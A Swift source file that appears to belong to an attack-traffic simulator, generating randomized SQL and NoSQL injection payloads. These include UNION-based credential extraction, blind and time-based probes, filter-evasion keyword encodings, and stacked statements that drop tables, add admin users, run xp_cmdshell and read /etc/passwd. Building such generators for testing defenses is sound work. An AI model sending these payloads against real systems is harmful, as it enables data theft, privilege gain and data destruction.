// Grammars that payloads are derived from. Each derivation is new; nothing here is a list of known payloads.

import Bytes

enum Payloads {
  typealias Random = SeededGenerator

  /// Appends a payload (probes: a path) of `kind`, not yet encoded for a URL.
  static func write(_ kind: SimulatedAttackKind, into out: inout ByteBuffer, _ random: inout Random) {
    switch kind {
    case .sqli, .quietCampaign: sql(&out, &random)
    case .nosqli: noSQL(&out, &random)
    case .xss: script(&out, &random)
    case .traversal: traversal(&out, &random)
    case .cmdi: command(&out, &random)
    case .ssti: template(&out, &random)
    case .log4shell: lookup(&out, &random)
    case .ssrf: forgery(&out, &random)
    case .xxe: entity(&out, &random)
    case .crlf: header(&out, &random)
    case .webshell: shell(&out, &random)
    case .secrets: secret(&out, &random)
    default: scan(&out, &random)
    }
  }

  static func one(_ out: inout ByteBuffer, _ random: inout Random, _ choices: StaticString...) {
    out.append(choices[random.below(choices.count)])
  }

  static func number(_ out: inout ByteBuffer, _ random: inout Random, upTo bound: Int = 9_999) {
    out.append(decimal: 1 + random.below(bound))
  }

  static func word(_ out: inout ByteBuffer, _ random: inout Random, letters: Int = 4) {
    for _ in 0..<letters { out.append(UInt8(0x61 + random.below(26))) }
  }

  /// A keyword in one of the ways to write it past a filter.
  static func keyword(_ out: inout ByteBuffer, _ random: inout Random, _ text: StaticString, style: Int) {
    text.withUTF8Buffer { bytes in
      if style == 3 { out.append("/*!50000" as StaticString) }
      for byte in bytes {
        switch style {
        case 1: out.append(byte.asciiLowercased)
        case 2: out.append(random.chance(0.5) ? byte.asciiLowercased : byte)
        default: out.append(byte)
        }
      }
      if style == 3 { out.append("*/" as StaticString) }
    }
  }

  static func space(_ out: inout ByteBuffer, _ random: inout Random, style: Int) {
    switch style {
    case 1: out.append("/**/" as StaticString)
    case 2: one(&out, &random, "\t", "\n", " ", "  ")
    default: out.append(0x20)
    }
  }

  // MARK: SQL

  static func sql(_ out: inout ByteBuffer, _ random: inout Random) {
    let style = [0, 0, 0, 1, 2, 3][random.below(6)]
    let gap = [0, 0, 0, 1, 2][random.below(5)]
    func key(_ out: inout ByteBuffer, _ random: inout Random, _ text: StaticString) {
      keyword(&out, &random, text, style: style)
    }
    func sp(_ out: inout ByteBuffer, _ random: inout Random) { space(&out, &random, style: gap) }
    one(&out, &random, "1", "-1", "7", "", "x", "tent", "0")
    let quoted = random.below(5)
    out.append(["'", "\"", "')", "", "'))"][quoted] as StaticString)
    let comment: StaticString = ["-- -", "--", "#", "-- ", ";--", "/*"][random.below(6)]
    switch random.below(8) {
    case 0:  // Always true, or always false.
      sp(&out, &random)
      key(&out, &random, random.chance(0.6) ? "OR" : "AND")
      sp(&out, &random)
      if random.chance(0.5) {
        number(&out, &random)
        one(&out, &random, "=", "<", ">", " LIKE ", "<>")
        number(&out, &random)
        if quoted > 0 { out.append(comment) }
      } else {
        out.append("'")
        word(&out, &random)
        out.append("'='")
        word(&out, &random)
        if random.chance(0.5) {
          out.append("'")
          out.append(comment)
        }
      }
    case 1, 2:  // Columns joined to the answer.
      sp(&out, &random)
      key(&out, &random, "UNION")
      sp(&out, &random)
      if random.chance(0.5) {
        key(&out, &random, "ALL")
        sp(&out, &random)
      }
      key(&out, &random, "SELECT")
      sp(&out, &random)
      let columns = 1 + random.below(12)
      let shown = random.below(columns)
      for column in 0..<columns {
        if column > 0 { out.append(",") }
        if column == shown { expression(&out, &random) } else { one(&out, &random, "NULL", "1", "0x31", "''") }
      }
      if random.chance(0.6) {
        sp(&out, &random)
        key(&out, &random, "FROM")
        sp(&out, &random)
        table(&out, &random)
      }
      out.append(comment)
    case 3:  // Answers that take their time.
      sp(&out, &random)
      key(&out, &random, "AND")
      sp(&out, &random)
      switch random.below(4) {
      case 0:
        key(&out, &random, "SLEEP")
        out.append("(")
        number(&out, &random, upTo: 9)
        out.append(")")
      case 1:
        out.append("(")
        number(&out, &random)
        out.append("=(SELECT ")
        number(&out, &random)
        out.append(" FROM PG_SLEEP(5)))")
      case 2:
        out.append("IF(ASCII(SUBSTRING((")
        subquery(&out, &random)
        out.append("),")
        number(&out, &random, upTo: 30)
        out.append(",1))>")
        number(&out, &random, upTo: 120)
        out.append(",BENCHMARK(5000000,MD5('")
        word(&out, &random)
        out.append("')),0)")
      default:
        out.append("1=1;WAITFOR DELAY '0:0:")
        number(&out, &random, upTo: 9)
        out.append("'")
      }
      out.append(comment)
    case 4:  // Data in the text of an error.
      sp(&out, &random)
      key(&out, &random, "AND")
      sp(&out, &random)
      one(&out, &random, "EXTRACTVALUE(1,", "UPDATEXML(1,", "JSON_KEYS((", "GTID_SUBSET(")
      out.append("CONCAT(0x7e,(")
      subquery(&out, &random)
      out.append("),0x7e))")
      out.append(comment)
    case 5:  // A second statement.
      out.append(";")
      sp(&out, &random)
      switch random.below(4) {
      case 0:
        key(&out, &random, "DROP TABLE")
        sp(&out, &random)
        word(&out, &random)
      case 1:
        key(&out, &random, "INSERT INTO")
        sp(&out, &random)
        out.append("users(name,role)")
        sp(&out, &random)
        key(&out, &random, "VALUES")
        out.append("('")
        word(&out, &random)
        out.append("','admin')")
      case 2:
        out.append("EXEC xp_cmdshell('net user ")
        word(&out, &random)
        out.append("')")
      default:
        key(&out, &random, "UPDATE")
        sp(&out, &random)
        out.append("users")
        sp(&out, &random)
        key(&out, &random, "SET")
        sp(&out, &random)
        out.append("password='")
        word(&out, &random, letters: 8)
        out.append("'")
      }
      out.append(comment)
    case 6:  // Counting columns.
      sp(&out, &random)
      key(&out, &random, random.chance(0.7) ? "ORDER BY" : "GROUP BY")
      sp(&out, &random)
      number(&out, &random, upTo: 40)
      out.append(comment)
    default:  // One bit at a time.
      sp(&out, &random)
      key(&out, &random, "AND")
      sp(&out, &random)
      one(&out, &random, "ORD(MID((", "ASCII(SUBSTR((", "UNICODE(SUBSTRING((")
      subquery(&out, &random)
      out.append("),")
      number(&out, &random, upTo: 30)
      out.append(",1))")
      one(&out, &random, ">", "=", "<")
      number(&out, &random, upTo: 126)
      if quoted > 0 { out.append(comment) }
    }
  }

  static func expression(_ out: inout ByteBuffer, _ random: inout Random) {
    switch random.below(6) {
    case 0: one(&out, &random, "@@version", "version()", "sqlite_version()", "banner")
    case 1: one(&out, &random, "user()", "current_user", "database()", "schema()")
    case 2:
      out.append("CONCAT(0x")
      out.append(hexadecimal: random.next(), digits: 10)
      out.append(",username,0x3a,password)")
    case 3: out.append("GROUP_CONCAT(table_name)")
    case 4: out.append("LOAD_FILE('/etc/passwd')")
    default:
      out.append("CHAR(")
      for i in 0..<4 {
        if i > 0 { out.append(",") }
        out.append(decimal: 97 + random.below(26))
      }
      out.append(")")
    }
  }

  static func table(_ out: inout ByteBuffer, _ random: inout Random) {
    one(
      &out, &random, "information_schema.tables", "users", "mysql.user", "sqlite_master", "pg_catalog.pg_tables",
      "all_tables", "admin")
    if random.chance(0.4) {
      out.append(" WHERE table_schema='")
      word(&out, &random, letters: 5)
      out.append("'")
    }
  }

  static func subquery(_ out: inout ByteBuffer, _ random: inout Random) {
    out.append("SELECT ")
    expression(&out, &random)
    out.append(" FROM ")
    table(&out, &random)
    if random.chance(0.5) {
      out.append(" LIMIT ")
      out.append(decimal: random.below(20))
      out.append(",1")
    }
  }

  static func noSQL(_ out: inout ByteBuffer, _ random: inout Random) {
    switch random.below(4) {
    case 0:
      one(&out, &random, "user", "email", "password", "id")
      one(&out, &random, "[$ne]=", "[$gt]=", "[$regex]=.*", "[$exists]=true", "[$nin][]=")
      word(&out, &random)
    case 1:
      out.append("{\"user\":{\"$gt\":\"\"},\"password\":{\"$")
      one(&out, &random, "ne\":null", "regex\":\"^a\"", "gt\":\"\"")
      out.append("}}")
    case 2:
      out.append("filter[$where]=this.")
      word(&out, &random)
      out.append(".match(/.*/)||sleep(")
      number(&out, &random, upTo: 5000)
      out.append(")")
    default:
      out.append("id=1'||'1'=='1&q={\"$where\":\"function(){return%20")
      number(&out, &random)
      out.append("}\"}")
    }
  }
}
